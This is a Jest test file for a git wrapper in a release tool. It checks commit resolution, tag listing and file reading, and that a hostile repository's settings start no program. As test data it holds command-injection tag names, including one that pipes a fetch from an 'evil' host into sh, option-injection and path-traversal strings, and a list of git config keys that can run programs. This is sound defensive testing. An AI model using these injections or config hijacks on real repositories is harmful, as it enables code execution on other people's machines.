import { existsSync, writeFileSync } from "node:fs";
import { join } from "node:path";
import { describe, expect, test } from "@jest/globals";
import { openGit } from "@release-actions/core/git/open-git";
import { jobOptions, makeFolder, Repository } from "./repository.ts";

const open = (repository: Repository) => openGit(jobOptions(repository, repository.directory));

describe("resolveCommit", () => {
  const repository = Repository.init();
  const first = repository.commit("feat: begin");
  repository.git("tag", "--annotate", "v1.0.0", "--message", "v1.0.0");
  repository.git("tag", "--annotate", "nested", "v1.0.0", "--message", "a tag of a tag");
  const second = repository.commit("fix: mend");
  repository.git("branch", "feature/x", first);
  repository.git("update-ref", "refs/remotes/origin/elsewhere", first);
  repository.git("tag", "main", first);
  repository.git("tag", "of-tree", "HEAD^{tree}");

  test.each([
    ["HEAD", second],
    ["main", second],
    ["refs/tags/main", first],
    ["feature/x", first],
    ["elsewhere", first],
    ["v1.0.0", first],
    ["refs/tags/v1.0.0", first],
    ["nested", first],
    [first, first],
    ["of-tree", undefined],
    ["unknown", undefined],
    ["0123456789012345678901234567890123456789", undefined],
  ])("%s is %s", async (revision, expected) => {
    const git = await open(repository);
    expect(await git.resolveCommit(revision)).toBe(expected);
  });

  test.each([
    "",
    "HEAD~1",
    "main@{0}",
    "main^{/begin}",
    ":/begin",
    "HEAD:file",
    "v1.0.0..main",
    "--all",
    "-h",
    "--output=/tmp/x",
    "main\nHEAD",
    "main HEAD",
    "*",
    "../HEAD",
    "refs/heads/../tags/v1.0.0",
  ])("%j is no name of a ref and names nothing", async (revision) => {
    const git = await open(repository);
    expect(await git.resolveCommit(revision)).toBeUndefined();
  });
});

describe("listTags", () => {
  test("hostile names are listed as they are, with the commits that they name in the end", async () => {
    const repository = Repository.init();
    const sha = repository.commit("feat: begin");
    const names = [
      "--upload-pack=id",
      "-d",
      "refs/tags/v1",
      "v1.0.0-0123",
      'v1.0.0";curl$IFS"evil|sh;"',
      "v1.0.0`id`",
      "v99999999999999999999.0.0",
      "vé",
    ].sort();
    for (const name of names) repository.git("update-ref", `refs/tags/${name}`, sha);
    const git = await open(repository);
    expect(await git.listTags()).toEqual(names.map((name) => ({ name, ref: `refs/tags/${name}`, sha })));
    const { previous, commits } = await git.readRange({ candidates: await git.listTags(), to: sha, paths: false });
    expect([previous?.name, commits]).toEqual([names[0], []]);
  });

  test("a repository without tags, and one without commits, have none", async () => {
    const repository = Repository.init();
    expect(await (await open(repository)).listTags()).toEqual([]);
    expect(await (await open(repository)).resolveCommit("HEAD")).toBeUndefined();
    repository.commit("feat: begin");
    expect(await (await open(repository)).listTags()).toEqual([]);
  });

  test("tags of trees and blobs take their names, and begin no range", async () => {
    const repository = Repository.init();
    repository.commit("feat: begin");
    repository.git("tag", "v9.0.0", "HEAD^{tree}");
    repository.git("tag", "v8.0.0", "HEAD:file");
    repository.git("tag", "v1.0.0");
    const to = repository.commit("fix: mend");
    const git = await open(repository);
    const tags = await git.listTags();
    expect(tags.map(({ name }) => name)).toEqual(["v1.0.0", "v8.0.0", "v9.0.0"]);
    const { previous, commits } = await git.readRange({ candidates: tags.toReversed(), to, paths: false });
    expect([previous?.name, commits.length]).toEqual(["v1.0.0", 1]);
  });
});

describe("readFile", () => {
  const repository = Repository.init();
  const content = Buffer.from([0, 255, 10, 13, 128]);
  writeFileSync(join(repository.directory, "binary"), content);
  const commit = repository.commit("feat: begin", ":(glob)odd* name", "odd");
  repository.gitWith({ input: "file" }, "hash-object", "-w", "--stdin");
  repository.git("update-index", "--add", "--cacheinfo", `120000,${repository.git("rev-parse", "HEAD:binary")},link`);
  repository.git("commit", "--quiet", "--message", "feat: a link");

  test("gives the bytes as they are, and of just the path that is asked for", async () => {
    const git = await open(repository);
    expect(await git.readFile(commit, "binary")).toEqual(content);
    expect((await git.readFile(commit, ":(glob)odd* name"))?.toString()).toBe("odd");
  });

  test.each(["missing", "", "--help", "*", "binary/", "/binary", "./binary", "../binary", "a/../binary"])(
    "there is no file %j",
    async (path) => {
      const git = await open(repository);
      const head = repository.sha("HEAD");
      expect(await git.readFile(head, path)).toBeUndefined();
    },
  );

  test("a link is not taken for a missing file", async () => {
    const git = await open(repository);
    await expect(git.readFile(repository.sha("HEAD"), "link")).rejects.toMatchObject({ code: "FILE_IS_LINK" });
  });
});

describe("a hostile repository", () => {
  test("no setting of its own starts a program or changes what is read", async () => {
    const repository = Repository.init();
    const first = repository.commit("feat: begin", "a");
    repository.git("tag", "v1.0.0");
    const to = repository.commit("fix: mend", "b");
    const marks = makeFolder();
    const program = join(marks, "program");
    writeFileSync(program, `#!/bin/sh\ntouch ${join(marks, "started")}\n`, { mode: 0o755 });
    for (const key of [
      "core.fsmonitor",
      "core.sshCommand",
      "core.pager",
      "core.editor",
      "core.askPass",
      "core.gitProxy",
      "core.alternateRefsCommand",
      "diff.external",
      "diff.evil.command",
      "diff.evil.textconv",
      "filter.evil.smudge",
      "gpg.program",
      "gpg.ssh.program",
      "pager.log",
      "pager.show-ref",
      "credential.helper",
      "uploadpack.packObjectsHook",
      "remote.origin.uploadpack",
    ])
      repository.git("config", key, program);
    for (const [key, value] of [
      ["log.showSignature", "true"],
      ["log.follow", "true"],
      ["log.date", "relative"],
      ["format.pretty", "%b"],
      ["diff.orderFile", "/nonexistent"],
      ["diff.noprefix", "true"],
      ["diff.renames", "copies"],
      ["color.ui", "always"],
      ["core.quotePath", "true"],
      ["alias.log", `!${program}`],
      ["alias.show-ref", `!${program}`],
      ["i18n.logOutputEncoding", "UTF-16"],
      ["core.hooksPath", marks],
    ] as const)
      repository.git("config", key, value);
    writeFileSync(join(repository.directory, ".git", "info", "attributes"), "* diff=evil filter=evil\n");
    repository.git("replace", to, first);
    const git = await open(repository);
    expect(await git.resolveCommit("main")).toBe(to);
    const { commits } = await git.readRange({ candidates: await git.listTags(), to, paths: true });
    expect(commits).toMatchObject([{ sha: to, message: expect.stringContaining("fix: mend"), paths: ["b"] }]);
    expect((await git.readFile(to, "b"))?.toString()).toBe("fix: mend");
    expect(existsSync(join(marks, "started"))).toBe(false);
  });
});
